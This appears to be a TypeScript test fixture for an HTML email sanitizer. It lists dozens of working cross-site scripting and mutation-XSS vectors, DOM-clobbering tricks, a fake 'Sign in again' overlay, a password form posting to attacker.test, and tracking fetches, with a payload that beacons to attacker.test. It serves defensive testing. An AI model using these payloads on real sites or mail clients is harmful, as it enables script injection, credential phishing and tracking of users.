/** Markup with which mail has broken out of other inboxes. Each sets a mark, opens a dialog or reaches out. */

/** Marks whatever window it reaches and, in case the mark is missed, asks a foreign host. */
export const payload =
  "try{top.__xss=1}catch(e){};window.__xss=1;new Image().src='https://attacker.test/ran'";

export const hostileMarkup: Record<string, string> = {
  script: `<script>${payload}</script>`,
  "script by address": '<script src="https://attacker.test/script.js"></script>',
  "event handler": `<img src="x" onerror="${payload}"><body onload="${payload}">`,
  "handler with odd separators": `<img/src=x/onerror=${payload.replaceAll(" ", "/**/")}>`,
  "autofocus handler": `<input autofocus onfocus="${payload}"><details open ontoggle="${payload}">x</details>`,
  "script link": `<a href="javascript:${payload}" style="display:block;width:600px;height:200px">Click</a>`,
  "script link in disguise": `<a href="jav&#x09;ascript:${payload}">a</a><a href=" &#14; javascript:${payload}">b</a>`,
  "data link": `<a href="data:text/html,<script>${payload}</script>">data</a>`,
  frame: `<iframe srcdoc="<script>${payload}</script>"></iframe><iframe src="https://attacker.test/frame"></iframe>`,
  "object and embed":
    '<object data="https://attacker.test/o.swf"></object><embed src="https://attacker.test/e.swf">',
  svg: `<svg onload="${payload}"><script>${payload}</script><animate attributeName="href" values="javascript:${payload}"/></svg>`,
  "svg animation": `<svg><a><animate attributeName="href" to="javascript:${payload}"/><text x="20" y="20">x</text></a></svg>`,
  mathml: `<math><maction actiontype="statusline" xlink:href="javascript:${payload}">x</maction></math>`,
  "mutation through math": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${payload}&gt;">`,
  "mutation through noscript": `<noscript><p title="</noscript><img src=x onerror=${payload}>"></noscript>`,
  "mutation through style": `<svg></p><style><a id="</style><img src=x onerror=${payload}>">`,
  annotation: `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${payload}"></style></annotation-xml></math>`,
  "unfinished tag": `<img src="x" onerror="${payload}" alt="`,
  "comment trick": `<!--><img src=x onerror="${payload}">-->`,
  template: `<template><script>${payload}</script></template><xmp><img src=x onerror="${payload}"></xmp>`,
  "meta refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.test/refresh">',
  "base address":
    '<base href="https://attacker.test/"><img src="relative.png"><a href="relative">x</a>',
  "style sheet":
    '<link rel="stylesheet" href="https://attacker.test/a.css"><style>@import url("https://attacker.test/b.css");</style>',
  "style that fetches":
    '<div style="background:url(https://attacker.test/c.png)">x</div><style>p{background:url(https://attacker.test/d.png)}</style>',
  "style that covers the app":
    '<div style="position:fixed;inset:0;z-index:999999;background:red">Sign in again</div>',
  "style in capitals": '<div style="BACKGROUND:\\75rl(https://attacker.test/e.png)">x</div>',
  form: `<form action="https://attacker.test/form"><input name="password"><button formaction="javascript:${payload}">Log in</button></form>`,
  "remote media":
    '<video src="https://attacker.test/v.mp4" autoplay poster="https://attacker.test/p.png"></video><audio src="https://attacker.test/a.mp3" autoplay></audio>',
  "remote images":
    '<img src="https://attacker.test/1.png"><img srcset="https://attacker.test/2.png 2x"><picture><source srcset="https://attacker.test/3.png"><img></picture>',
  "table background":
    '<table background="https://attacker.test/4.png"><tr><td background="https://attacker.test/5.png">x</td></tr></table>',
  "hints to the browser":
    '<link rel="preconnect" href="https://attacker.test/"><link rel="dns-prefetch" href="//attacker.test"><link rel="prefetch" href="https://attacker.test/6">',
  ping: '<a href="https://example.test/" ping="https://attacker.test/ping">x</a>',
  "reply of a known wrapper": `<div id="x"></div><form id="__proto__"><input name="innerHTML" value="<img src=x onerror=${payload}>"></form>`,
  "names that shadow the document":
    '<img name="body"><img name="cookie"><form name="document"><input name="querySelector"></form>',
};
